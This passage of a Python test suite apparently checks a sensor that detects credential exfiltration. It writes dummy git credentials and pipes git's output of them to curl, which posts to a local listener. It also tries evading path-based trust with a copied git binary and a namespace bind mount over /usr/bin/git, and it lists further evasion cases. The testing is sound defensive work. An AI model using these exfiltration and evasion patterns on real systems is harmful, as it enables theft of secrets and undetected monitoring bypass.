        creds = os.path.join(home, ".git-credentials")
        h.write_file(creds, DUMMY_GIT_CREDS, mode=0o600)
        rules = h.builtin_rules_json(ROOT)
        trusted = [t for t in rules.get("trusted_binaries", []) if t.get("exe") == git]
        check(trusted and GIT_CREDS in trusted[0].get("categories", [GIT_CREDS]) and "sha256" not in trusted[0],
              f"the built-in rules do not trust {git} by path for {GIT_CREDS!r}: {trusted}")
        os.makedirs(os.path.join(home, "bin"))
        copy = os.path.join(home, "bin", "git")
        shutil.copy2(git, copy)
        os.chown(copy, 65534, 65534)          # nobody: outside what only root can write
        os.chmod(copy, 0o755)
        paths.update(home=home, creds=creds, copy=copy)
        return None                           # built-in rules

    def body(ws, sensor, lst):
        home, creds, copy = paths["home"], paths["creds"], paths["copy"]
        send = f'| {curl} -sS -o /dev/null --max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/'
        env = shell_env(home)
        digest = subprocess.run([git, "hash-object", creds], capture_output=True, check=True,
                                env=env).stdout.strip()
        a_sh = h.Shell(f'{git} hash-object "$HOME/.git-credentials" {send}', env=env)
        a_sh.wait()
        check(lst.received(digest), f"session A: the listener did not receive git's output: {lst.bodies()}")
        b_sh = h.Shell(f'"$HOME/bin/git" hash-object "$HOME/.git-credentials" {send}', env=env)
        b_sh.wait()
        # git stays alive (reading paths from stdin) while the sensor examines /proc/PID/exe:
        # the bind mount exists only in this namespace, so a look by path from the sensor's
        # namespace finds the real git, another inode, and the owner would be unknown
        c_sh = h.Shell(f'exec {unshare} --mount --propagation private -- bash -c '
                       f'\'{mount} --bind "$HOME/bin/git" {git} && '
                       f'{{ echo "$HOME/.git-credentials"; sleep 2; }} | {git} hash-object --stdin-paths {send}\'',
                       env=env)
        c_sh.wait()
        settle(sensor, c_sh.leader)
        settle(sensor, b_sh.leader)
        time.sleep(1.0)
        yield
        ev = trace_events(ws)

        def git_readers(leader):
            """(pid, exec line) of the processes of `leader`'s session that opened the credentials."""
            execs = {e["pid"]: e for e in ev if e.get("kind") == "exec" and e.get("sid") == leader}
            opened = {e["pid"] for e in ev if e.get("kind") == "open" and e.get("path") == creds}
            return [(pid, execs[pid]) for pid in sorted(opened) if pid in execs]

        # A: trusted, and the silence is the trust's doing: the sensor saw git open the file
        ra = git_readers(a_sh.leader)
        check(len(ra) == 1 and ra[0][1].get("exe") == git, f"session A: expected one open of {creds} by {git}, "
                                                            f"got {ra}")
        x = ra[0][1]
        check(x.get("exe_uid") == 0 and x.get("exe_mode") == format(st.st_mode & 0o7777, "04o"),
              f"session A: the recorded exec of git has exe_uid {x.get('exe_uid')!r} and exe_mode "
              f"{x.get('exe_mode')!r}, expected 0 and {format(st.st_mode & 0o7777, '04o')}: {x}")
        check(sensor.alerts_in_session(a_sh.leader) == [],
              f"session A: trusted /usr/bin/git alerted: {sensor.alerts_in_session(a_sh.leader)}")

        # B: the same bytes at another path
        b = one_alert(sensor.alerts_in_session(b_sh.leader), f"session B {b_sh.leader}", sensor)
        show("copy of git", b)
        check_common(b, path=creds, category=GIT_CREDS, port=lst.port, relation="sibling")
        check_proc(b.get("reader"), "reader", b, exe=copy)
        check_proc(b.get("process"), "process", b, comm="curl", exe=curl)
        check((b.get("reader") or {}).get("sha256") == h.sha256_of(git),
              f"session B: the copy's sha256 {(b.get('reader') or {}).get('sha256')!r} is not git's; {ctx(b)}")

        # C: the kernel path is /usr/bin/git, the file behind it is nobody's
        rc = git_readers(c_sh.leader)
        check(len(rc) == 1 and rc[0][1].get("exe") == git, f"session C: expected one open of {creds} by a process "
                                                            f"running {git} (the bind mount), got {rc}")
        check(rc[0][1].get("exe_uid") == 65534, f"session C: exe_uid {rc[0][1].get('exe_uid')!r} != 65534; "
                                                f"{rc[0][1]}")
        c = one_alert(sensor.alerts_in_session(c_sh.leader), f"session C {c_sh.leader}", sensor)
        show("nobody's git at /usr/bin/git", c)
        check_common(c, path=creds, category=GIT_CREDS, port=lst.port, relation="sibling")
        check_proc(c.get("reader"), "reader", c, pid=rc[0][0], exe=git)
        check((c.get("reader") or {}).get("sha256") == h.sha256_of(git),
              f"session C: the reader's sha256 is not the copy's (git's bytes); {ctx(c)}")
    return h.Attack("trusted_binary_copy", body, prepare, listener="http", record=True)


# --------------------------------------------------------------------------- driver

# The alerting cases, each a factory attack_NAME() of an h.Attack (set up and attack,
# then, once the sensor stopped, check); case_NAME runs it under a sensor of its own.
# baseline_test.py runs them all together under `run --baseline` (h.run_attacks_together).
# unrelated_sessions is not one: it is about an alert that must not happen.
ATTACKS = ("pipeline_sibling", "command_substitution", "parent_reads_child_connects",
           "reader_exits_before_connect", "thread_connects", "path_dotdot_slashes", "proc_self_root",
           "hardlink_shadow", "hardlink_ssh_key", "parent_named_systemd", "parent_prctl_systemd",
           "trusted_binary_copy")


h.register_attack_cases(globals(), ATTACKS)


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "family_test"))
